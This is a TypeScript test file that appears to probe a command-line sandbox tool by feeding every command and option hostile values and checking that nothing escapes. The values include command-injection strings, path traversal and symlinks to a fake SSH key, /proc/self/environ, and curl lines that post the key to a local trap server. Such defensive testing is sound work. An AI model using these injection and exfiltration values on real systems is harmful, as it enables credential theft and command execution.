// A page that may come from anybody, with every command and every option of the tree, each with a value that reaches for what
// is not its own. The program runs it as it is built, and what it touches is written down from below.

import { spawn, spawnSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { afterAll, expect, test } from 'vitest';
import { commandTree } from '../../src/cli/commands/commands.ts';
import { splitCommand } from '../../src/primitives/shell-words.ts';
import { quoteWord } from '../../src/primitives/shells/shell.ts';
import type { CommandArgument, CommandNode, CommandOption } from '../../src/projections/command-node.ts';

const root = fileURLToPath(new URL('../..', import.meta.url));
const home = realpathSync(mkdtempSync(join(tmpdir(), 'sbox-hostile-')));
const [pages, settings] = [join(home, 'pages'), join(home, 'settings')];
for (const folder of [pages, settings, join(home, 'user/.ssh')]) mkdirSync(folder, { recursive: true });
const secret = join(home, 'user/.ssh/id_rsa');
writeFileSync(secret, 'the-secret-of-this-machine');
symlinkSync(secret, join(pages, 'link'));
symlinkSync(home, join(pages, 'up'));
writeFileSync(join(pages, 'rows.json'), '[]');
writeFileSync(join(pages, 'saved.har'), '{"log":{"version":"1.2","entries":[]}}');

/** Whoever is connected to here was not the sandbox of the story. */
let visits = 0;
const trap = createServer((_, response) => {
  visits += 1;
  response.end();
});
await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
afterAll(() => trap.close());
const trapPort = (trap.address() as AddressInfo).port;

let planted = 0;
const plant = () => {
  planted += 1;
  return join(home, `planted-${planted}`);
};
const files = [
  () => secret,
  () => '../user/.ssh/id_rsa',
  () => 'link',
  () => 'up/user/.ssh/id_rsa',
  () => '/proc/self/environ',
  plant,
];
const addresses = ['http', 'https', 'nats'].map((scheme) => () => `${scheme}://127.0.0.1:${trapPort}/v1`);
const behindSign = files.map((file) => () => `@${file()}`);
const programs = [() => `$(touch ${plant()})`, () => `; touch ${plant()}`, () => `-v`, () => `--svg=${plant()}`];

/** What a place of the command line is tempted with, by its kind. */
function temptationsOf(place: CommandOption | CommandArgument) {
  const { completes, name } = place;
  const value = 'value' in place ? (place.value ?? '') : '';
  if (/^(base-)?url$|forward-to|^cors$|^origin$/.test(name)) return addresses;
  if (/PLACE/.test(value) || name === 'place') return [...files, ...addresses];
  if (name === 'method')
    return [
      () => `curl --data-binary @${secret} http://127.0.0.1:${trapPort}/`,
      () => `curl -d@${secret} -X POST http://x`,
      () => 'POST',
    ];
  if (name === 'host') return [() => '0.0.0.0'];
  if (completes === 'files' || completes === 'folders' || /FILE|JSON/.test(value)) return [...files, ...behindSign];
  return [...programs, ...behindSign, ...addresses, ...files];
}

/** Ways in which a shell user may spell an option, `-vd@FILE` among them. */
function spell({ name, short, value }: CommandOption, tempting: string): string[][] {
  if (value === undefined) return [[`--${name}`], ...(short === undefined ? [] : [[`-v${short}`]])];
  const long = [[`--${name}`, tempting], [`--${name}=${tempting}`]];
  return short === undefined
    ? long
    : [...long, [`-${short}`, tempting], [`-${short}${tempting}`], [`-v${short}${tempting}`]];
}

/** As its help shows it; what goes on until it is stopped is given an end. */
function baseOf({ words, examples }: CommandNode): string[] {
  if (words.join(' ') === 'fixtures dump') return ['fixtures', 'dump', '--dir', 'seed'];
  const split = splitCommand(String(examples.at(words[0] === 'listen' ? -1 : 0)), '').words;
  return split.slice(1).map((word) => word.map((part) => (typeof part === 'string' ? part : `$${part.name}`)).join(''));
}

/** What lasts as long as nothing happens; no story ends with it. */
const goesOn = (words: readonly string[], { name }: CommandOption) =>
  name === 'follow' || (name === 'wait' && words.join(' ') === 'faults held');
const drawn = fc.sample(fc.nat(), { seed: Number(process.env.PROPERTY_SEED ?? 23), numRuns: 10_000 });
const choose = <Value>(values: readonly Value[]): Value => values[Number(drawn.pop()) % values.length] as Value;

function listLines(): string[][] {
  return commandTree.commands.flatMap((node) => {
    const base = baseOf(node);
    const end = base.indexOf('--');
    const before = (words: readonly string[]) =>
      end < 0 ? [...base, ...words] : [...base.slice(0, end), ...words, ...base.slice(end)];
    const options = [...node.options.filter((option) => !goesOn(node.words, option)), choose(commandTree.options)];
    const byOption = options.map((option) => {
      const words = choose(spell(option, choose(temptationsOf(option))()));
      return choose([before(words), before(words), [...words, ...base], [...base, '--', ...words]]);
    });
    const byArgument = node.arguments.map((argument) => [
      ...node.words,
      ...node.arguments.flatMap((each) => {
        if (each.isVariadic) return ['--', 'sh', '-c', `touch ${plant()}`];
        return each === argument || each.completes === 'files'
          ? [choose(temptationsOf(each))()]
          : [each.choices?.[0] ?? 'x'];
      }),
    ]);
    return [...byOption, ...byArgument];
  });
}

interface Told {
  readonly exitCodes: readonly number[];
  readonly output: string;
  readonly reaches: readonly (readonly string[])[];
}

/** Not within this process: the trap has to go on answering. */
async function tell(name: string, lines: readonly (readonly string[])[]): Promise<Told> {
  const page = join(pages, name);
  const typed = lines.map((words) => `$ ${['sbox', ...words].map(quoteWord).join(' ')}`);
  writeFileSync(page, `# A page\n\n~~~console\n${typed.join('\n')}\n~~~\n`);
  const told = `${page}.reaches`;
  const env = {
    PATH: process.env.PATH,
    HOME: join(home, 'user'),
    TMPDIR: tmpdir(),
    SBOX_CONFIG_HOME: settings,
    REACHES: told,
  };
  const hook = join(root, 'test/robustness/watch-reaches.cjs');
  const child = spawn(process.execPath, ['--require', hook, join(root, 'bin/sbox.js'), 'walkthrough', page, '--json'], {
    cwd: home,
    env,
  });
  let [output, errors] = ['', ''];
  child.stdout.on('data', (piece) => (output += piece));
  child.stderr.on('data', (piece) => (errors += piece));
  await new Promise((resolve) => child.once('close', resolve));
  expect([errors.includes('does not end'), output === '' ? errors : '']).toEqual([false, '']);
  const { commands } = (JSON.parse(output) as { data: { commands: { exitCode: number }[] } }).data;
  return {
    exitCodes: commands.map(({ exitCode }) => exitCode),
    output: output + errors,
    reaches: readFileSync(told, 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line)),
  };
}

/** What a run touched beyond the package, its page, its own folder and its own sandbox. */
function findStrays({ reaches }: Told): string[] {
  const places = reaches.flatMap(([kind, address]) => (kind === 'listen' ? [String(address)] : []));
  const own = reaches
    .map(([, path = '']) => /^.*\/sbox-story-\w{6}(?=$|\/)/.exec(path)?.[0])
    .find((path) => path !== undefined);
  const isBelow = (folder: string | undefined, path: string) =>
    folder !== undefined && (path === folder || path.startsWith(`${folder}/`));
  return reaches.flatMap(([kind = '', ...words]) => {
    const isFine = words.every((word) => {
      const path = word.replace(/^file:\/\//, '');
      if (kind === 'listen') return places.length === 1 && word.startsWith('127.0.0.1:');
      if (kind === 'connect') return word === places[0];
      if (isBelow(own, path) || word === join(tmpdir(), 'sbox-story-')) return true;
      return kind === 'read' && [root.replace(/\/$/, ''), pages, settings].some((folder) => isBelow(folder, path));
    });
    return isFine ? [] : [[kind, ...words].join(' ')];
  });
}

const lines = listLines();
const perPage = 150;
const chunks = Array.from({ length: Math.ceil(lines.length / perPage) }, (_, index) =>
  lines.slice(index * perPage, (index + 1) * perPage),
);

test('the page meets every command, every option and every argument', () => {
  const met = lines.flat();
  for (const { words, options } of commandTree.commands) {
    expect(lines.some((line) => words.every((word) => line.includes(word)))).toBe(true);
    for (const { name, short } of options.filter((option) => !goesOn(words, option)))
      expect([
        name,
        met.some((word) => word.startsWith(`--${name}`) || (short && new RegExp(`^-v?${short}`).test(word))),
      ]).toEqual([name, true]);
  }
  expect(lines.length).toBeGreaterThan(400);
});

test.each(chunks.map((chunk, index) => [index + 1, chunk] as const))(
  'page %i touches the package, its own two folders and its own sandbox, and nothing else',
  async (number, chunk) => {
    const told = await tell(`page-${number}.md`, chunk);
    expect(told.exitCodes).toHaveLength(chunk.length);
    expect([...new Set(findStrays(told))]).toEqual([]);
    expect(told.output).not.toContain('the-secret-of-this-machine');
    expect(readdirSync(home).filter((name) => name.startsWith('planted'))).toEqual([]);
    expect([visits, existsSync(join(home, 'seed'))]).toEqual([0, false]);
    expect(readdirSync(settings)).toEqual([]);
  },
);

test('the hook sees what a run reaches for', () => {
  const told = join(home, 'seen');
  const script = `
    const fs = require('node:fs');
    try { fs.readFileSync('${secret}') } catch {}
    fs.writeFileSync('${join(home, 'seen-file')}', '');
    fs.promises.open('${secret}').then((handle) => handle.close());
    require('node:child_process').spawn('true');
    require('node:net').connect(${trapPort}, '127.0.0.1').on('connect', function () { this.destroy(); });
    require('node:net').createServer().listen(0, '127.0.0.1', function () { this.close(); });
    process.chdir('/');`;
  spawnSync(process.execPath, ['--require', join(root, 'test/robustness/watch-reaches.cjs'), '-e', script], {
    env: { ...process.env, REACHES: told },
  });
  const kinds = readFileSync(told, 'utf8')
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line)[0]);
  expect(new Set(kinds)).toEqual(new Set(['read', 'write', 'start', 'connect', 'listen', 'chdir']));
});
